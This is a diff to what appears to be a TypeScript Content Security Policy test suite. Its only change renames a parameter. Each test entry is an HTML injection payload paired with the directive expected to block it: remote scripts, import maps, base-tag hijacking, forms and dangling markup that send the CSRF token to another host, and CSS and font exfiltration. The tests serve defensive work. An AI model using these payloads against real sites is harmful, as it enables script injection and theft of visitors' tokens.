@@ -32,7 +32,7 @@ const FIRE = "(globalThis.fired??=[]).push(1)";
 interface Attack {
   name: string;
   /** What the URL brings. */
-  text: (elsewhere: string) => string;
+  text: (remoteNodes: string) => string;
   /** Default: the page that writes it as HTML. */
   path?: string;
   /** What the visitor does. */
@@ -73,7 +73,7 @@ const ATTACKS: Attack[] = [
   },
   {
     name: "a script from another site",
-    text: (elsewhere) => `<script src="${elsewhere}/a.js"></script>`,
+    text: (remoteNodes) => `<script src="${remoteNodes}/a.js"></script>`,
     directive: "script-src-elem",
   },
   {
@@ -88,8 +88,8 @@ const ATTACKS: Attack[] = [
   },
   {
     name: "an import map",
-    text: (elsewhere) =>
-      `<script type="importmap">{"imports":{"/_svc/core.js":"${elsewhere}/core.js"}}</script>` +
+    text: (remoteNodes) =>
+      `<script type="importmap">{"imports":{"/_svc/core.js":"${remoteNodes}/core.js"}}</script>` +
       `<script type="module">${FIRE}</script>`,
     directive: "script-src-elem",
   },
@@ -112,45 +112,45 @@ const ATTACKS: Attack[] = [
   },
   {
     name: "a base that moves the site's own scripts",
-    text: (elsewhere) => `<base href="${elsewhere}/">`,
+    text: (remoteNodes) => `<base href="${remoteNodes}/">`,
     isAskedInVain: true,
     directive: "base-uri",
   },
   {
     name: "a frame of another site",
-    text: (elsewhere) => `<iframe src="${elsewhere}/frame"></iframe>`,
+    text: (remoteNodes) => `<iframe src="${remoteNodes}/frame"></iframe>`,
     asks: "/frame",
     directive: "frame-src",
   },
   {
     name: "an object",
-    text: (elsewhere) => `<object data="${elsewhere}/object"></object>`,
+    text: (remoteNodes) => `<object data="${remoteNodes}/object"></object>`,
     asks: "/object",
     directive: "object-src",
   },
   {
     name: "an embed",
-    text: (elsewhere) => `<embed src="${elsewhere}/embed" type="text/html">`,
+    text: (remoteNodes) => `<embed src="${remoteNodes}/embed" type="text/html">`,
     asks: "/embed",
     directive: "object-src",
   },
   {
     name: "a form to another site",
-    text: (elsewhere) => `<form method="post" action="${elsewhere}/form"><button id="bait">bait</button></form>`,
+    text: (remoteNodes) => `<form method="post" action="${remoteNodes}/form"><button id="bait">bait</button></form>`,
     act: press("#bait"),
     asks: "/form",
     directive: "form-action",
   },
   {
     name: "a form around the visitor's token",
-    text: (elsewhere) => `<form method="get" action="${elsewhere}/token">`,
+    text: (remoteNodes) => `<form method="get" action="${remoteNodes}/token">`,
     act: press("button:not([id])"),
     asks: "/token?_csrf=",
     directive: "form-action",
   },
   {
     name: "an image whose address swallows what follows it",
-    text: (elsewhere) => `<img src='${elsewhere}/dangling?`,
+    text: (remoteNodes) => `<img src='${remoteNodes}/dangling?`,
     // Closed by the first quote of its kind: what stands before it goes along.
     path: "/before-script",
     asks: "/dangling?",
@@ -158,46 +158,46 @@ const ATTACKS: Attack[] = [
   },
   {
     name: "a script that swallows the nonce of the one behind it",
-    text: (elsewhere) => `<script src="${elsewhere}/a.js" x=`,
+    text: (remoteNodes) => `<script src="${remoteNodes}/a.js" x=`,
     path: "/before-script",
     isAskedInVain: true,
     directive: "script-src-elem",
   },
   {
     name: "a style that reads the token letter by letter",
-    text: (elsewhere) => `<style>[name=_csrf][value]{--x:1}form{background:url(${elsewhere}/letter)}</style>`,
+    text: (remoteNodes) => `<style>[name=_csrf][value]{--x:1}form{background:url(${remoteNodes}/letter)}</style>`,
     asks: "/letter",
     directive: "style-src-elem",
   },
   {
     name: "a stylesheet of another site",
-    text: (elsewhere) => `<link rel="stylesheet" href="${elsewhere}/a.css">`,
+    text: (remoteNodes) => `<link rel="stylesheet" href="${remoteNodes}/a.css">`,
     asks: "/a.css",
     directive: "style-src-elem",
   },
   {
     name: "a style attribute that loads",
-    text: (elsewhere) => `<p style="background:url(${elsewhere}/attribute)">bait`,
+    text: (remoteNodes) => `<p style="background:url(${remoteNodes}/attribute)">bait`,
     asks: "/attribute",
     directive: "img-src",
   },
   {
     name: "a font that counts letters",
-    text: (elsewhere) =>
-      `<svg><style>@font-face{font-family:f;src:url(${elsewhere}/font)}button{font-family:f}</style></svg>`,
+    text: (remoteNodes) =>
+      `<svg><style>@font-face{font-family:f;src:url(${remoteNodes}/font)}button{font-family:f}</style></svg>`,
     asks: "/font",
     directive: "style-src-elem",
   },
   {
     name: "a film of another site",
-    text: (elsewhere) => `<video autoplay src="${elsewhere}/film"></video>`,
+    text: (remoteNodes) => `<video autoplay src="${remoteNodes}/film"></video>`,
     asks: "/film",
     directive: "media-src",
   },
   {
     name: "rules that fetch pages ahead",
-    text: (elsewhere) =>
-      `<script type="speculationrules">{"prefetch":[{"urls":["${elsewhere}/x"]}]}</script><script>${FIRE}</script>`,
+    text: (remoteNodes) =>
+      `<script type="speculationrules">{"prefetch":[{"urls":["${remoteNodes}/x"]}]}</script><script>${FIRE}</script>`,
     directive: "script-src-elem",
   },
   { name: "a script in an uploaded image", path: "/avatar.svg", text: () => "", directive: "script-src-elem" },
